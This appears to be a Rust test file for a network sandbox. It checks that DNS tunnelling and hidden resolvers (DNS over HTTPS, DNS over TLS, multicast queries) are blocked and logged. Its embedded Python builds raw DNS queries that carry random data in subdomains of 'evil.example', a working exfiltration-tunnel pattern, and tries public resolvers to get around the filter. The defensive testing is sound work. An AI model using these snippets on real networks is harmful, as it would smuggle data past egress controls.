//! Names as a way out, and names that are looked up behind our back.

use belljar_testkit::{A, AAAA, NameServer};
use serde_json::json;

use super::*;

/// Raw queries, as a tunnel sends them.
const DNS: &str = r#"
import random

KINDS = {"A": 1, "NS": 2, "CNAME": 5, "NULL": 10, "MX": 15, "TXT": 16, "AAAA": 28, "SRV": 33, "HTTPS": 65, "ANY": 255}

def query(name, kind):
    labels = b"".join(bytes([len(it)]) + it.encode() for it in name.split("."))
    return struct.pack(">HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", KINDS[kind], 1)

def said(answer):
    """The code and the number of answers."""
    return None if answer is None else [answer[3] & 15, struct.unpack(">H", answer[6:8])[0]]

def by_udp(server, name, kind):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        made.settimeout(5)
        made.sendto(query(name, kind), (server, 53))
        try:
            return said(made.recv(4096))
        except TimeoutError:
            return None

def by_tcp(server, name, kind):
    asked = query(name, kind)
    with tcp(server, 53) as made:
        made.sendall(struct.pack(">H", len(asked)) + asked)
        return said(made.recv(4096)[2:])
"#;

#[test]
fn a16_nothing_is_said_to_the_world_by_asking_for_names() {
    let server = NameServer::start(|_, _| vec!["2d00::1".parse().unwrap()]);
    let lab = lab();
    lab.configure(&format!(
        "[dns]\nservers = [\"{}\"]\n[template.default]\nnet = \"restricted\"\nallow = [\"api.example.com\"]\n",
        server.address()
    ));
    let script = format!(
        r#"{DNS}
data = "".join(random.choice("abcdefghijklmnopqrstuvwxyz234567") for _ in range(50))
tunnel = f"{{data}}.{{data[:40]}}.evil.example"
tell({{
    "allowed": [by_udp(s, "api.example.com", k) for s in ("192.0.2.53", "8.8.8.8") for k in ("A", "AAAA")],
    "allowed, by tcp": by_tcp("1.1.1.1", "api.example.com", "A"),
    "other kinds": [by_udp("192.0.2.53", "api.example.com", k) for k in ("TXT", "NULL", "MX", "CNAME", "SRV", "HTTPS", "NS", "ANY")],
    "tunnel": [by_udp(s, tunnel, k) for s in ("192.0.2.53", "8.8.8.8") for k in KINDS],
    "tunnel, by tcp": [by_tcp("8.8.8.8", tunnel, k) for k in ("A", "TXT", "NULL")],
    "below the allowed": by_udp("8.8.8.8", f"{{data}}.api.example.com", "A"),
    "name": tunnel,
}})
"#
    );
    let told = told(&lab, &script);
    assert_eq!(told["allowed"], json!([[0, 1], [0, 1], [0, 1], [0, 1]]), "{told}");
    assert_eq!(told["allowed, by tcp"], json!([0, 1]));
    let other = told["other kinds"].as_array().unwrap();
    assert!(other.iter().all(|it| it[1] == 0), "no answer of any other kind: {told}");
    let tunnel = told["tunnel"].as_array().unwrap();
    assert!(tunnel.len() == 20 && tunnel.iter().all(|it| *it == json!([3, 0])), "{told}");
    assert_eq!(told["tunnel, by tcp"], json!([[3, 0], [3, 0], [3, 0]]));
    assert_eq!(told["below the allowed"], json!([3, 0]));
    assert_eq!(server.asked(), [], "not even for what is allowed, until it is dialled");
    let name = told["name"].as_str().unwrap();
    let names = record(&lab, "dns.decided");
    let is = |it: &&Value| it["name"] == name && it["verdict"] == "deny";
    assert_eq!(names.iter().filter(is).count(), 1, "once, however often: {names:#?}");
    // Control: that server is the one that would be asked, and it hears what it is asked.
    let script = "tell(fetch('https://api.example.com/')['belljar'])";
    assert_eq!(read(&python(&lab, script).run()), "upstream");
    let mut asked = server.asked();
    asked.sort();
    assert_eq!(asked, [A, AAAA].map(|kind| ("api.example.com".to_owned(), kind)));
}

#[test]
fn a17_hidden_resolvers_are_refused_even_where_everything_is_allowed() {
    let server = NameServer::start(|_, _| vec!["2d00::1".parse().unwrap()]);
    let lab = lab();
    lab.configure(&format!("[dns]\nservers = [\"{}\"]\n", server.address()));
    lab.write("kit.py", KIT);
    let script = r#"
def dot(host):
    """Asks over TLS, and says whether that was understood as what it is."""
    asked = query("tunnel.example", "A")
    try:
        heard = say(tls(host, dial=host, port=853, verify=False), struct.pack(">H", len(asked)) + asked)
        return "an answer" if heard[2:4].encode("latin-1") == asked[:2] else "none"
    except OSError:
        return "none"

def datagram(to):
    made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    made.settimeout(0.5)
    try:
        made.connect(to)
        made.send(b"\0" * 32)
        return "answered" if made.recv(512) else ""
    except TimeoutError:
        return "silence"
    except OSError as error:
        return f"errno {error.errno}"

urls = ["https://public.example.net/", "https://dns.google/dns-query?dns=AAAA", "https://cloudflare-dns.com/dns-query?dns=AAAA",
        "https://1.1.1.1/dns-query?dns=AAAA", "https://8.8.8.8/dns-query?dns=AAAA", "https://public.example.net:853/"]
tell({
    "https": at_once(lambda url: fetch(url, verify=False).get("belljar"), urls),
    "tls": at_once(dot, ["1.1.1.1", "9.9.9.9"]),
    "datagrams": at_once(datagram, [("224.0.0.251", 5353), ("224.0.0.252", 5355), ("8.8.8.8", 443), ("8.8.8.8", 853)]),
})
"#;
    let run = lab.belljar(["run", "--net", "full", "--", "/usr/bin/python3", "-c"]);
    let ended = run.arg(format!("from kit import *\n{DNS}\n{script}")).run();
    let told = read(&ended);
    assert_eq!(told["https"][0], "upstream", "a public name is dialled: {told}");
    assert_eq!(told["tls"], json!(["none", "none"]), "{told}");
    let https = told["https"].as_array().unwrap();
    assert!(https.iter().skip(1).all(|it| *it != "upstream"), "{told}");
    let datagrams = told["datagrams"].as_array().unwrap();
    assert!(datagrams.iter().all(|it| it != "answered"), "{told}");
    for host in ["dns.google", "cloudflare-dns.com"] {
        let names = record(&lab, "dns.decided");
        let is = |it: &Value| {
            it["name"] == host && it["reason"].as_str().unwrap().starts_with("hidden-dns:")
        };
        assert!(names.iter().any(is), "{host}: {names:#?}");
    }
    for host in ["1.1.1.1", "8.8.8.8", "public.example.net"] {
        on_record(&lab, host, "hidden-dns");
    }
    on_record(&lab, "9.9.9.9", "malformed");
    let asked = server.asked();
    assert!(asked.iter().all(|(name, _)| name == "public.example.net"), "{asked:?}");
}
